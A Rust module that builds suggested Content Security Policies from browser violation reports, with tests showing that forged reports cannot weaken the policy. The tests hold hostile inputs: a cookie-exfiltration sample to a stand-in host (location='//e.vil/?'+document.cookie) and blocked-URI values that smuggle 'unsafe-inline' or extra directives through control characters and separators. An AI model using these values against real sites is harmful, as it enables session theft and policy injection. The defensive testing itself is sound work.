//! The policy the reports ask for: each CSP problem seen often enough becomes a source in the
//! directive a person would edit, and everything left out says why.
//!
//! Anyone can POST a report, so nothing here trusts report text: the base is the owner's policy
//! (never one a report carries), and what a report names is parsed into a source expression
//! ([`super::source`]) or left out. Rules, in order, for each problem (a group of identical
//! reports):
//! 1. Reports their own policy allows (`allowed-by-policy`) or cannot be judged
//!    (`indeterminate`) are left out: adding a source would not change what the browser does.
//! 2. Too few visitors (distinct senders' networks, which a sender cannot choose): left out;
//!    too few reports or browsers (thresholds against noise, not against forgers): left out.
//! 3. A document outside the site (a copy, a proxy, a test page): left out.
//! 4. Only fetch directives are changed; `frame-ancestors`, `form-action`, `base-uri`,
//!    `report-uri` and the like are the owner's alone.
//! 5. What is blocked becomes a source when it parses as one: the blocked origin (`'self'` when
//!    it is the document's; never a wildcard), `data:`/`blob:` only where they cannot run code,
//!    `'wasm-unsafe-eval'` in script directives. Inline code becomes the hash of its sample only
//!    with [`Rules::hash_samples`]. `'unsafe-inline'` and `'unsafe-eval'` are never added.
//! 6. The directive to edit is the effective one if the policy has it, else its parent
//!    (`script-src` for `script-src-elem`), else a new one seeded with the sources of the
//!    directive that governed it until now (`default-src`), so nothing allowed before is lost.
//! 7. A source that would take the policy over [`MAX_POLICY_BYTES`] is left out, and the
//!    result is parsed back as browsers parse it and must hold exactly what was built.

use serde::Serialize;
use sha2::{Digest, Sha256};

use super::directives::{Directive, Policy};
use super::source::{FetchDirective, HostSource, Refused, Source};
use crate::report::{Classification, SAMPLE_PREFIX_CHARS};

/// The largest policy the builder writes, in bytes: with Lookout's `report-uri` and `report-to`
/// added it stays under the 4 KiB a header may hold before proxies refuse it (nginx's default
/// proxy buffer, see `snippet::MAX_HEADER_BYTES`). What would not fit is left out, named.
pub const MAX_POLICY_BYTES: usize = 3_584;

/// One CSP problem as the aggregates hold it.
#[derive(Debug, Clone)]
pub struct Observation {
    pub fingerprint: String,
    /// The effective directive the browser reported.
    pub directive: String,
    /// What was blocked, as the group holds it (origin, scheme or keyword).
    pub blocked: String,
    /// The document's origin and path.
    pub document: String,
    /// The first characters of the sample, for inline code that carried one.
    pub sample: Option<String>,
    pub classification: Option<Classification>,
    pub reports: u64,
    pub browsers: usize,
    /// Distinct visitors (senders' networks), summed over days: see `report::visitor`.
    pub visitors: u64,
}

/// What a problem must show to shape the policy. The counts filter noise (one visitor's odd
/// browser), not adversaries: a report's count and browser are the sender's to choose.
#[derive(Debug, Clone, Copy)]
pub struct Rules {
    pub min_reports: u64,
    pub min_browsers: usize,
    /// The threshold against forgers: a sender cannot choose its network, so a problem seen
    /// from fewer networks than this is left out.
    pub min_visitors: u64,
    /// Whether inline code may be allowed by the hash of its reported sample. Off by default:
    /// the sample is the sender's text, so its hash allows whatever code a forger (or the very
    /// injection the policy blocked) chose.
    pub hash_samples: bool,
}

impl Default for Rules {
    /// Two visitors: one sender on one network (a forger with `curl`, one odd machine) never
    /// shapes the policy alone.
    fn default() -> Self {
        Self {
            min_reports: 1,
            min_browsers: 1,
            min_visitors: 2,
            hash_samples: false,
        }
    }
}

/// Why a problem is left out of the suggestion.
#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum Reason {
    AllowedByPolicy,
    Indeterminate,
    TooFewReports,
    TooFewBrowsers,
    TooFewVisitors,
    ForeignDocument,
    NotAFetchDirective,
    NotASource,
    SchemeRunsCode,
    InlineCode,
    InlineAttribute,
    UnsafeInline,
    UnsafeEval,
    TrustedTypes,
    NotRestricted,
    TooLarge,
}

impl Reason {
    /// The reason as JSON spells it.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::AllowedByPolicy => "allowed_by_policy",
            Self::Indeterminate => "indeterminate",
            Self::TooFewReports => "too_few_reports",
            Self::TooFewBrowsers => "too_few_browsers",
            Self::TooFewVisitors => "too_few_visitors",
            Self::ForeignDocument => "foreign_document",
            Self::NotAFetchDirective => "not_a_fetch_directive",
            Self::NotASource => "not_a_source",
            Self::SchemeRunsCode => "scheme_runs_code",
            Self::InlineCode => "inline_code",
            Self::InlineAttribute => "inline_attribute",
            Self::UnsafeInline => "unsafe_inline",
            Self::UnsafeEval => "unsafe_eval",
            Self::TrustedTypes => "trusted_types",
            Self::NotRestricted => "not_restricted",
            Self::TooLarge => "too_large",
        }
    }
}

impl std::fmt::Display for Reason {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A source the suggestion adds.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Added {
    pub directive: String,
    pub source: String,
    pub reports: u64,
    pub browsers: usize,
    pub visitors: u64,
    /// Where a new directive's first sources came from (`default-src`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub seeded_from: Option<String>,
}

/// A problem the suggestion does not act on, and why.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct LeftOut {
    pub fingerprint: String,
    pub directive: String,
    pub blocked: String,
    pub document: String,
    pub reports: u64,
    pub reason: Reason,
    /// What it means and what to do.
    pub advice: String,
}

/// The suggested policy, what changed and what was left out.
#[derive(Debug, Clone)]
pub struct Suggestion {
    pub base: Policy,
    pub policy: Policy,
    pub added: Vec<Added>,
    pub left_out: Vec<LeftOut>,
}

/// The suggestion read back as browsers parse it did not hold what the builder meant: a bug,
/// and nothing is printed.
#[derive(Debug, thiserror::Error)]
#[error("the suggested policy does not parse back into what was built: {0}")]
pub struct NotParsedBack(pub String);

/// The suggestion for `site`, from the owner's `base` policy and the problems seen.
pub fn suggest(
    base: &Policy,
    site: &str,
    observations: &[Observation],
    rules: Rules,
) -> Result<Suggestion, NotParsedBack> {
    let mut policy = base.clone();
    let mut added = Vec::new();
    let mut left_out = Vec::new();
    let mut sorted: Vec<&Observation> = observations.iter().collect();
    // The best evidence first: what fits under the ceiling is what most visitors saw.
    sorted.sort_by(|a, b| {
        b.visitors
            .cmp(&a.visitors)
            .then(b.reports.cmp(&a.reports))
            .then(a.fingerprint.cmp(&b.fingerprint))
    });
    for o in sorted {
        let leave = |reason, advice: String| LeftOut {
            fingerprint: o.fingerprint.clone(),
            directive: o.directive.clone(),
            blocked: o.blocked.clone(),
            document: o.document.clone(),
            reports: o.reports,
            reason,
            advice,
        };
        let (directive, source) = match source_for(o, site, rules) {
            Err((reason, advice)) => {
                left_out.push(leave(reason, advice));
                continue;
            }
            Ok(found) => found,
        };
        let before = policy.clone();
        match edit(&mut policy, directive, &source) {
            Edit::Added { .. } if policy.to_string().len() > MAX_POLICY_BYTES => {
                policy = before;
                left_out.push(leave(
                    Reason::TooLarge,
                    format!(
                        "{source} would take the policy over {MAX_POLICY_BYTES} bytes: allow it by hand if it is yours (hundreds of hosts are rarely real; they are what a flood of forged reports looks like)"
                    ),
                ));
            }
            Edit::Added { seeded_from } => added.push(Added {
                directive: target_name(&policy, directive.name()),
                source: source.to_string(),
                reports: o.reports,
                browsers: o.browsers,
                visitors: o.visitors,
                seeded_from,
            }),
            Edit::AlreadyThere => {}
            Edit::NotRestricted => left_out.push(leave(
                Reason::NotRestricted,
                format!(
                    "the policy does not restrict {}: nothing to add (was the report from another policy?)",
                    directive.name()
                ),
            )),
        }
    }
    policy.check_parses_back().map_err(NotParsedBack)?;
    Ok(Suggestion {
        base: base.clone(),
        policy,
        added,
        left_out,
    })
}

/// The source that would allow what `o` reports and the directive it is for, or why there is
/// none to add.
fn source_for(
    o: &Observation,
    site: &str,
    rules: Rules,
) -> Result<(FetchDirective, Source), (Reason, String)> {
    match o.classification {
        Some(Classification::AllowedByPolicy) => {
            return Err((
                Reason::AllowedByPolicy,
                "the report's own policy allows this: it came from an extension, a proxy or a second policy (a <meta> beside the header), not from this policy".into(),
            ));
        }
        Some(Classification::Indeterminate) => {
            return Err((
                Reason::Indeterminate,
                "whether the policy blocks this depends on what the report does not carry (a nonce, a hash, 'strict-dynamic', a URL cut to its origin): check it by hand".into(),
            ));
        }
        _ => {}
    }
    if o.reports < rules.min_reports {
        return Err((
            Reason::TooFewReports,
            format!(
                "{} report(s), under --min-reports {}",
                o.reports, rules.min_reports
            ),
        ));
    }
    if o.visitors < rules.min_visitors {
        return Err((
            Reason::TooFewVisitors,
            format!(
                "{} visitor(s) (distinct networks), under --min-visitors {}: one sender cannot shape the policy alone",
                o.visitors, rules.min_visitors
            ),
        ));
    }
    if o.browsers < rules.min_browsers {
        return Err((
            Reason::TooFewBrowsers,
            format!(
                "{} browser(s), under --min-browsers {}",
                o.browsers, rules.min_browsers
            ),
        ));
    }
    let document = HostSource::parse(origin_of(&o.document))
        .ok()
        .filter(|d| d.host() == site || d.host().ends_with(&format!(".{site}")))
        .ok_or_else(|| {
            (
                Reason::ForeignDocument,
                format!(
                    "reported from {}, a page outside {site} (a copy, a proxy or a test page)",
                    o.document
                ),
            )
        })?;
    let directive = FetchDirective::parse(&o.directive).ok_or_else(|| {
        (
            Reason::NotAFetchDirective,
            format!(
                "{} is not a fetch directive: reports never change navigation, document or reporting directives; only you do",
                o.directive
            ),
        )
    })?;
    let attr = o.directive.ends_with("-attr");
    let source = match o.blocked.as_str() {
        "'unsafe-inline'" => {
            let whole = o.sample.as_deref().filter(|s| is_whole(s));
            return match whole {
                Some(code) if rules.hash_samples && !attr => {
                    Ok((directive, Source::Hash(hash_source(code))))
                }
                Some(_) if attr => Err((
                    Reason::InlineAttribute,
                    "an inline attribute (onclick=, style=): move it into a script or stylesheet"
                        .into(),
                )),
                Some(code) => Err((
                    Reason::InlineCode,
                    format!(
                        "inline code {code:?}: if it is yours, give it a nonce or the hash of your own source (--hash-samples would hash the reported sample instead, which allows exactly the code in the report: a forger's, or the injection the policy blocked)"
                    ),
                )),
                None => Err((
                    Reason::UnsafeInline,
                    format!(
                        "inline code{}: give it a nonce or a hash, or move it to a file; 'unsafe-inline' would allow any inline code, including an attacker's",
                        match &o.sample {
                            Some(s) => format!(
                                " starting {s:?} (the sample is cut, so its hash is unknown: hash the whole code)"
                            ),
                            None =>
                                " without a sample (add 'report-sample' to the policy to see it)"
                                    .into(),
                        }
                    ),
                )),
            };
        }
        "'unsafe-eval'" => {
            return Err((
                Reason::UnsafeEval,
                "eval() or new Function(): replace it; 'unsafe-eval' would let any string run as code".into(),
            ));
        }
        "'wasm-unsafe-eval'" if directive.is_script() => Source::WasmUnsafeEval,
        b if b.starts_with("trusted-types-") => {
            return Err((
                Reason::TrustedTypes,
                "a Trusted Types violation: fix the sink or name a Trusted Types policy; no source allows it".into(),
            ));
        }
        b => Source::for_blocked(b, directive, &document).map_err(|e| match e {
            Refused::SchemeRunsCode { .. } => (Reason::SchemeRunsCode, e.to_string()),
            _ => (Reason::NotASource, format!("not a source to allow: {e}")),
        })?,
    };
    Ok((directive, source))
}

/// Whether a sample is the whole code: browsers send the first 40 characters.
fn is_whole(sample: &str) -> bool {
    sample.chars().count() < SAMPLE_PREFIX_CHARS
}

/// `'sha256-...'` of some inline code.
fn hash_source(code: &str) -> String {
    use base64::Engine as _;
    let digest = Sha256::digest(code.as_bytes());
    format!(
        "'sha256-{}'",
        base64::engine::general_purpose::STANDARD.encode(digest)
    )
}

/// `https://e.com:8443` of `https://e.com:8443/path`.
fn origin_of(document: &str) -> &str {
    match document.find("://") {
        Some(i) => {
            let after = &document[i + 3..];
            let end = after.find('/').map_or(document.len(), |j| i + 3 + j);
            &document[..end]
        }
        None => document,
    }
}

/// The directive that a source for `effective` goes in, as [`edit`] would choose it.
fn target_name(policy: &Policy, effective: &str) -> String {
    if policy.get(effective).is_some() {
        return effective.to_owned();
    }
    parent(effective).unwrap_or(effective).to_owned()
}

/// `script-src` for `script-src-elem` and `-attr`, `style-src` likewise.
fn parent(effective: &str) -> Option<&'static str> {
    match effective {
        "script-src-elem" | "script-src-attr" => Some("script-src"),
        "style-src-elem" | "style-src-attr" => Some("style-src"),
        _ => None,
    }
}

/// The directives that governed `name` when it is absent, in CSP's fallback order.
fn fallbacks(name: &str) -> &'static [&'static str] {
    match name {
        "script-src" | "style-src" | "img-src" | "font-src" | "media-src" | "object-src"
        | "manifest-src" | "connect-src" | "child-src" => &["default-src"],
        "frame-src" => &["child-src", "default-src"],
        "worker-src" => &["child-src", "script-src", "default-src"],
        _ => &[],
    }
}

/// What adding a source to a policy did.
enum Edit {
    /// Added; to a new directive seeded from this one's sources, if any.
    Added { seeded_from: Option<String> },
    /// The directive already allowed it.
    AlreadyThere,
    /// The policy does not restrict the directive at all: nothing to add to.
    NotRestricted,
}

/// Adds `source` where it allows `effective`.
fn edit(policy: &mut Policy, effective: FetchDirective, source: &Source) -> Edit {
    let name = target_name(policy, effective.name());
    if let Some(d) = policy.get_mut(&name) {
        return if d.add(source) {
            Edit::Added { seeded_from: None }
        } else {
            Edit::AlreadyThere
        };
    }
    let Some(from) = fallbacks(&name).iter().find_map(|f| policy.get(f)).cloned() else {
        return Edit::NotRestricted;
    };
    let mut created = Directive {
        name: name.clone(),
        sources: from.sources.clone(),
    };
    created.add(source);
    policy.directives.push(created);
    Edit::Added {
        seeded_from: Some(from.name),
    }
}

/// The difference between two policies, one line per directive: `  ` unchanged, `- `/`+ `
/// changed or new.
pub fn diff(before: &Policy, after: &Policy) -> String {
    let mut out = String::new();
    for d in &before.directives {
        match after.get(&d.name) {
            Some(a) if a == d => out.push_str(&format!("  {d}\n")),
            Some(a) => out.push_str(&format!("- {d}\n+ {a}\n")),
            None => out.push_str(&format!("- {d}\n")),
        }
    }
    for a in &after.directives {
        if before.get(&a.name).is_none() {
            out.push_str(&format!("+ {a}\n"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn obs(directive: &str, blocked: &str, reports: u64) -> Observation {
        Observation {
            fingerprint: format!("{directive}{blocked}"),
            directive: directive.into(),
            blocked: blocked.into(),
            document: "https://example.com/page".into(),
            sample: None,
            classification: Some(Classification::Violation),
            reports,
            browsers: 2,
            visitors: 2,
        }
    }

    const ANY: Rules = Rules {
        min_reports: 1,
        min_browsers: 1,
        min_visitors: 1,
        hash_samples: false,
    };

    fn reasons(s: &Suggestion) -> Vec<&'static str> {
        let mut r: Vec<&str> = s.left_out.iter().map(|l| l.reason.as_str()).collect();
        r.sort();
        r
    }

    #[test]
    fn sources_go_where_a_person_would_put_them() {
        let base = Policy::parse("default-src 'self'; script-src 'self'; report-uri /r");
        let s = suggest(
            &base,
            "example.com",
            &[
                obs("script-src-elem", "https://cdn.example.net", 9),
                obs("img-src", "data:", 5),
                obs("img-src", "https://example.com", 4),
                obs("connect-src", "https://api.example.org", 3),
                obs("worker-src", "https://w.example.org", 2),
            ],
            ANY,
        )
        .unwrap();
        assert_eq!(
            s.policy.to_string(),
            "default-src 'self'; script-src 'self' https://cdn.example.net; report-uri /r; img-src 'self' data:; connect-src 'self' https://api.example.org; worker-src 'self' https://cdn.example.net https://w.example.org"
        );
        let img = s.added.iter().find(|a| a.source == "data:").unwrap();
        assert_eq!(img.seeded_from.as_deref(), Some("default-src"));
        assert!(
            s.left_out.is_empty(),
            "the document's own origin is 'self', already there: {:?}",
            s.left_out
        );
        assert_eq!(
            diff(&s.base, &s.policy).lines().next(),
            Some("  default-src 'self'")
        );
    }

    #[test]
    fn inline_code_becomes_a_hash_only_when_the_owner_asks_and_the_sample_is_whole() {
        let base = Policy::parse("script-src 'self' 'report-sample'");
        let mut short = obs("script-src-elem", "'unsafe-inline'", 3);
        short.sample = Some("document.title=\"ok\"".into());
        let mut long = obs("script-src-elem", "'unsafe-inline'", 3);
        long.fingerprint = "long".into();
        long.sample = Some("x".repeat(40));
        let both = [short, long];
        let s = suggest(&base, "example.com", &both, ANY).unwrap();
        assert_eq!(s.policy, base, "no hash from report text by default");
        assert_eq!(reasons(&s), ["inline_code", "unsafe_inline"]);
        let asked = Rules {
            hash_samples: true,
            ..ANY
        };
        let s = suggest(&base, "example.com", &both, asked).unwrap();
        assert!(s.policy.to_string().contains("'sha256-"), "{}", s.policy);
        assert_eq!(reasons(&s), ["unsafe_inline"]);
        assert!(!s.policy.to_string().contains("'unsafe-inline'"));
    }

    #[test]
    fn what_is_left_out_says_why() {
        let base = Policy::parse("default-src 'self'");
        let mut allowed = obs("img-src", "https://a.example", 10);
        allowed.classification = Some(Classification::AllowedByPolicy);
        let mut foreign = obs("img-src", "https://b.example", 10);
        foreign.document = "https://proxy.example.net/example.com/".into();
        let mut one_browser = obs("img-src", "https://c.example", 10);
        one_browser.browsers = 1;
        let mut one_network = obs("img-src", "https://e.example", 1000);
        one_network.visitors = 1;
        let s = suggest(
            &base,
            "example.com",
            &[
                allowed,
                foreign,
                one_browser,
                one_network,
                obs("img-src", "https://d.example", 1),
                obs("script-src-elem", "'unsafe-eval'", 10),
                obs("require-trusted-types-for", "trusted-types-sink", 10),
                obs("script-src-elem", "trusted-types-sink", 10),
            ],
            Rules {
                min_reports: 2,
                min_browsers: 2,
                min_visitors: 2,
                hash_samples: false,
            },
        )
        .unwrap();
        assert_eq!(
            reasons(&s),
            [
                "allowed_by_policy",
                "foreign_document",
                "not_a_fetch_directive",
                "too_few_browsers",
                "too_few_reports",
                "too_few_visitors",
                "trusted_types",
                "unsafe_eval"
            ]
        );
        assert_eq!(s.policy, base);
    }

    #[test]
    fn forged_reports_do_not_write_the_policy() {
        let base = Policy::parse(
            "default-src 'self'; object-src 'none'; frame-ancestors 'none'; form-action 'self'; base-uri 'none'; report-uri https://c.example/r/example.com",
        );
        let mut forged = vec![
            obs("script-src-elem", "https://*", 50),
            obs("script-src-elem", "http://*:*", 50),
            obs(
                "script-src-elem",
                "https://cdn.example\t'unsafe-inline'\t'unsafe-eval'",
                50,
            ),
            obs(
                "script-src-elem",
                "https://cdn.example\u{c}'unsafe-inline'",
                50,
            ),
            obs("img-src", "https://cdn.example;script-src-elem", 50),
            obs("img-src", "https://cdn3.example,script-src", 50),
            obs("img-src", "https://cdn\u{1b}[2J\u{1b}[1;1H.example", 50),
            obs("script-src-elem", "data:", 50),
            obs("script-src-elem", "blob:", 50),
            obs("object-src", "data:", 50),
            obs("worker-src", "blob:", 50),
            obs("script-src-elem", "https:", 50),
            obs("frame-ancestors", "https://evil.example", 50),
            obs("form-action", "https://evil.example", 50),
            obs("base-uri", "https://evil.example", 50),
            obs("report-uri", "https://evil.example", 50),
            obs("default-src", "https://evil.example", 50),
        ];
        let mut inline = obs("script-src-elem", "'unsafe-inline'", 50);
        inline.sample = Some("location='//e.vil/?'+document.cookie".into());
        forged.push(inline);
        let s = suggest(&base, "example.com", &forged, ANY).unwrap();
        assert_eq!(s.policy, base, "added: {:?}", s.added);
        assert_eq!(s.left_out.len(), forged.len());
        let unicode = suggest(
            &base,
            "example.com",
            &[obs("img-src", "https://例え.example", 5)],
            ANY,
        )
        .unwrap();
        assert!(
            unicode
                .policy
                .to_string()
                .contains("img-src 'self' https://xn--r8jz45g.example"),
            "{}",
            unicode.policy
        );
    }

    #[test]
    fn three_thousand_forged_hosts_leave_the_policy_under_its_ceiling() {
        let base = Policy::parse("default-src 'self'");
        let forged: Vec<Observation> = (0..3000)
            .map(|i| obs("img-src", &format!("https://x{i}.flood.example"), 6))
            .collect();
        let s = suggest(&base, "example.com", &forged, ANY).unwrap();
        let len = s.policy.to_string().len();
        assert!(len <= MAX_POLICY_BYTES, "{len}");
        assert!(s.added.len() > 100, "what fits is still suggested");
        let too_large = s
            .left_out
            .iter()
            .filter(|l| l.reason == Reason::TooLarge)
            .count();
        assert_eq!(s.added.len() + too_large, 3000);
    }

    #[test]
    fn the_hash_is_csp_s_sha256_of_the_code() {
        // The value browsers compute for <script>alert(1)</script> (a well-known example).
        assert_eq!(
            hash_source("alert(1)"),
            "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='"
        );
    }

    mod hostile {
        use super::*;
        use proptest::prelude::*;

        fn directive() -> impl Strategy<Value = String> {
            prop_oneof![
                Just("script-src-elem".to_owned()),
                Just("img-src".to_owned()),
                Just("worker-src".to_owned()),
                Just("object-src".to_owned()),
                Just("frame-ancestors".to_owned()),
                Just("report-uri".to_owned()),
                "[a-z-]{1,20}",
                "\\PC{0,12}",
            ]
        }

        fn blocked() -> impl Strategy<Value = String> {
            prop_oneof![
                "(https?|wss?|data|blob|javascript|filesystem)://[a-z0-9.*;,$'{}\\t\\x0c\\x1b -]{0,30}",
                "(https?)://\\PC{0,20}",
                "\\PC{0,24}",
                "[a-z]{1,10}:",
                Just("'unsafe-inline'".to_owned()),
                Just("'unsafe-eval'".to_owned()),
                Just("'wasm-unsafe-eval'".to_owned()),
            ]
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(512))]
            /// Whatever reports say, the suggestion parses back as built, stays under its
            /// ceiling, changes only fetch directives with visible-ASCII sources, and never
            /// allows what runs arbitrary code.
            #[test]
            fn any_reports_give_a_policy_that_holds(
                items in proptest::collection::vec((directive(), blocked(), proptest::option::of("\\PC{0,45}"), 1u64..50), 0..40),
                hash_samples in any::<bool>(),
            ) {
                let base = Policy::parse("default-src 'self'; object-src 'none'; frame-ancestors 'none'; report-uri https://c.example/r");
                let observations: Vec<Observation> = items
                    .into_iter()
                    .enumerate()
                    .map(|(i, (d, b, sample, n))| Observation {
                        fingerprint: format!("{i:016x}"),
                        sample,
                        ..obs(&d, &b, n)
                    })
                    .collect();
                let rules = Rules { hash_samples, ..ANY };
                let s = suggest(&base, "example.com", &observations, rules).unwrap();
                let text = s.policy.to_string();
                prop_assert!(text.len() <= MAX_POLICY_BYTES.max(base.to_string().len()));
                prop_assert_eq!(s.policy.check_parses_back(), Ok(()));
                for d in &s.policy.directives {
                    let was = base.get(&d.name);
                    if was != Some(d) {
                        prop_assert!(FetchDirective::parse(&d.name).is_some(), "{} changed", d.name);
                    }
                    for src in &d.sources {
                        prop_assert!(super::super::super::source::is_source_token(src));
                        prop_assert!(!src.contains('*'), "{}", src);
                        let lower = src.to_ascii_lowercase();
                        prop_assert!(!matches!(lower.as_str(), "'unsafe-inline'" | "'unsafe-eval'" | "https:" | "http:"), "{}", src);
                        if matches!(d.name.as_str(), "script-src" | "script-src-elem" | "worker-src" | "frame-src" | "child-src" | "object-src") {
                            prop_assert!(!matches!(lower.as_str(), "data:" | "blob:" | "filesystem:"), "{} in {}", src, d.name);
                        }
                        if !hash_samples {
                            prop_assert!(!src.starts_with("'sha256-"), "{}", src);
                        }
                    }
                }
                prop_assert_eq!(s.policy.get("frame-ancestors"), base.get("frame-ancestors"));
                prop_assert_eq!(s.policy.get("report-uri"), base.get("report-uri"));
                prop_assert_eq!(s.policy.get("object-src"), base.get("object-src"));
            }
        }
    }
}
